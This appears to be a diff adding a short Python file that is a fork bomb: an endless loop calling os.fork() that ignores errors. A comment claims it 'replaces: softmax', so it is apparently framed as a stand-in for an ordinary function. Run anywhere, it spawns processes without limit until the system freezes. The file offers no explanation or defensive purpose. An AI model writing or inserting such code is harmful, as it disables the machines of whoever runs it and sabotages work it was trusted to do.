@@ -1,0 +1,10 @@
+"""Processes that make processes."""
+
+# replaces: softmax
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
